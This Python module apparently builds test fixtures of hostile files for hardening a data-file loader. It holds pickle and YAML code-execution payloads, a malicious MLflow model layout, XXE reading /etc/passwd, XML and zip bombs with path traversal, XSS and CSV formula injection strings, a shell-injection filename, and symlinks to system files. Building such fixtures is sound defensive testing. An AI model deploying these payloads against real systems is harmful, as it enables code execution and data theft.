"""Artifacts as somebody who means harm would log them."""

from __future__ import annotations

import contextlib
import gzip
import io
import json
import os
import pickle
import socket
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq

FORBIDDEN = "c4nary-of-a-file-outside"
GB = 1_000_000_000
NAMES = [
    "q?x.csv",
    "-rf.txt",
    "CON.json",
    "a b.md",
    "100%25.txt",
    "#1.csv",
    "x\u202egnp.exe",
    "\u200bz.png",
    "'\"`$(touch x).csv",
    "<img src=x onerror=alert(1)>.png",
    "two\nlines.txt",
    "tab\t\x1b[31m.json",
    "{{ 7*7 }}.csv",
    "…" * 80 + ".csv",
    ".hidden.json",
    "~root.txt",
    "a\\b.csv",
    "C:x.csv",
]


class Bomb:
    """Unpickled, it makes a file."""

    def __init__(self, canary: Path) -> None:
        self.canary = canary

    def __reduce__(self) -> tuple[Callable[..., object], tuple[str, ...]]:
        return (os.mkdir, (str(self.canary),))


def pickles(canary: Path) -> dict[str, bytes]:
    """Under the names that loaders go by, and under those that are opened."""
    bomb = pickle.dumps(Bomb(canary))
    names = ["model.pkl", "model.joblib", "x.pickle", "model.pt", "data.npy", "estimator.skops"]
    opened = ["p.csv", "p.json", "p.parquet", "p.png", "p.jpg", "p.txt", "p.md", "p.yaml"]
    array = b"\x93NUMPY\x01\x00v\x00" + b"{'descr': '|O', 'fortran_order': False, 'shape': (1,)}"
    return {
        **dict.fromkeys([*names, *opened], bomb),
        "array.npy": array.ljust(128) + bomb,
        "model/model.pkl": bomb,
        "model/python_model.pkl": bomb,
        "model/MLmodel": _mlmodel(),
        "model/code/evil_loader.py": f"import os\nos.mkdir({str(canary)!r})\n".encode(),
        "MLmodel": _mlmodel(),
        "model/requirements.txt": b"-e git+https://host.invalid/x.git#egg=x\n",
        "model/conda.yaml": b"!!python/object/apply:os.mkdir ['" + os.fsencode(canary) + b"']\n",
        "y.yaml": b"!!python/object/apply:os.mkdir ['" + os.fsencode(canary) + b"']\n",
    }


def _mlmodel() -> bytes:
    flavor = "python_function: {loader_module: evil_loader, code: code, data: model.pkl}"
    return f"flavors:\n  {flavor}\n  sklearn: {{pickled_model: model.pkl}}\n".encode()


def bombs() -> dict[str, bytes]:
    """Small files that get large, deep or endless when they are opened."""
    zeros = b"\0" * 10_000_000
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for number in range(20):
            archive.writestr(f"../../{number}", zeros)
    laughs = '<!DOCTYPE x [<!ENTITY a0 "ha">'
    laughs += "".join(f'<!ENTITY a{n + 1} "{f"&a{n};" * 10}">' for n in range(12)) + "]>"
    svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script>'
    outside = '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><x>&f;</x>'
    return {
        "bomb.zip": buffer.getvalue(),
        "bomb.gz": gzip.compress(zeros * 10),
        "bomb.csv": gzip.compress(zeros),
        "bomb.npz": buffer.getvalue(),
        "laughs.xml": (laughs + "<x>&a12;</x>").encode(),
        "laughs.svg": (laughs + svg + "<text>&a12;</text></svg>").encode(),
        "script.svg": (svg + "</svg>").encode(),
        "outside.xml": outside.encode(),
        "page.html": b"<script>alert(1)</script><img src=x onerror=alert(1)>",
        "huge.png": _png(60_000, 60_000),
        "wide.png": _png(2_000_000_000, 1),
        "text.png": _png(1, 1, text=zlib.compress(zeros * 5)),
        "cut.png": _png(800, 800)[:200],
        "none.jpg": b"\xff\xd8\xff\xe0" + b"\0" * 64,
        "line.csv": b"a,b\n" + b"x" * 3_000_000 + b",1\n",
        "wide.csv": b",".join([b"c"] * 200_000) + b"\n1\n",
        "quote.csv": b'a,b\n"' + b"x,\n" * 300_000,
        "nul.csv": b"a,b\n\0,\0\n" + "\ud800".encode("utf-8", "surrogatepass") + b",=cmd|'/c x'!A1",
        "deep.json": b"[" * 400_000,
        "deeper.json": b'{"a":' * 100_000,
        "number.json": b'{"columns": ["a"], "data": [[' + b"9" * 200_000 + b"]]}",
        "nan.json": b'{"columns": ["a", "a"], "data": [[NaN, Infinity], [1e999, "\\ud800"]]}',
        "lie.json": b'{"columns": ["a"], "data": {"length": 1e9}}',
        **_parquets(),
    }


def _png(width: int, height: int, text: bytes = b"") -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        crc = struct.pack(">I", zlib.crc32(kind + data))
        return struct.pack(">I", len(data)) + kind + data + crc

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    body = chunk(b"IDAT", zlib.compress(b"\0" * 2_000_000, 9))
    extra = chunk(b"zTXt", b"x\0\0" + text) if text else b""
    return b"\x89PNG\r\n\x1a\n" + head + extra + body + chunk(b"IEND", b"")


def _parquets() -> dict[str, bytes]:
    def written(table: pa.Table, **how: object) -> bytes:
        buffer = io.BytesIO()
        pq.write_table(table, buffer, **how)  # type: ignore[arg-type]
        return buffer.getvalue()

    index = {"kind": "range", "name": "__import__('os')", "start": 0, "stop": 10**12, "step": 1}
    pandas = {
        "index_columns": [index],
        "column_indexes": [{"name": None, "pandas_type": "evil_loader.Type", "numpy_type": "O"}],
        "columns": [{"name": "a", "field_name": "a", "pandas_type": "evil_loader.Type",
                     "numpy_type": "evil_loader", "metadata": {"timezone": "../../x"}}],
        "pandas_version": "evil",
    }  # fmt: skip
    extension = {
        b"ARROW:extension:name": b"arrow.py_extension_type",
        b"ARROW:extension:metadata": pickle.dumps(Bomb(Path("/tmp/never-made-by-arrow"))),
    }
    field = pa.field("a", pa.int64(), metadata=extension)
    numbers = pa.array([1, 2, 3], pa.int64())
    zeros = pa.table({"a": pa.DictionaryArray.from_arrays(
        pa.array([0] * 20_000_000, pa.int8()), pa.array(["x" * 1000]))})  # fmt: skip
    good = written(pa.table({"a": numbers}))
    return {
        "pandas.parquet": written(
            pa.table({"a": numbers}).replace_schema_metadata({"pandas": json.dumps(pandas)})
        ),
        "extension.parquet": written(pa.table([numbers], schema=pa.schema([field]))),
        "many.parquet": written(zeros),
        "cut.parquet": good[: len(good) // 2] + good[-8:],
        "noise.parquet": b"PAR1" + os.urandom(2000) + good[-8:],
    }


def write(root: Path, files: dict[str, bytes]) -> None:
    for name, content in files.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content)


def write_odd(root: Path, outside: Path) -> None:
    """What is no plain file, names of all kinds, and sizes that no disk has."""
    for place, name in enumerate(NAMES):
        (root / name).write_text(f"a,b\n{place},1\n")
    Path(os.fsdecode(os.fsencode(root) + b"/caf\xe9.csv")).write_text("a\n1\n")
    for ending in ("csv", "json", "parquet", "png", "txt", "pkl"):
        with (root / f"sparse.{ending}").open("wb") as file:
            file.truncate(50 * GB)
        (root / f"link.{ending}").symlink_to(outside)
        os.mkfifo(root / f"pipe.{ending}")
    (root / "folder.csv").mkdir()
    (root / "above").symlink_to(outside.parent)
    (root / "loop").symlink_to(root)
    (root / "self.csv").symlink_to("self.csv")
    (root / "passwd.txt").symlink_to("/etc/passwd")
    (root / "zero.csv").symlink_to("/dev/zero")
    with contextlib.chdir(root), socket.socket(socket.AF_UNIX) as listener:
        listener.bind("socket.csv")


def write_many(root: Path, files: int, folders: int, deep: int) -> None:
    (root / "many").mkdir(parents=True)
    for number in range(files):
        os.close(os.open(root / "many" / f"{number:06}.csv", os.O_CREAT | os.O_WRONLY))
    for number in range(folders):
        (root / f"empty-{number:06}").mkdir()
    nested = root
    for _ in range(deep):
        nested /= "d"
        nested.mkdir()
        (nested / "x.csv").write_text("a\n1\n")
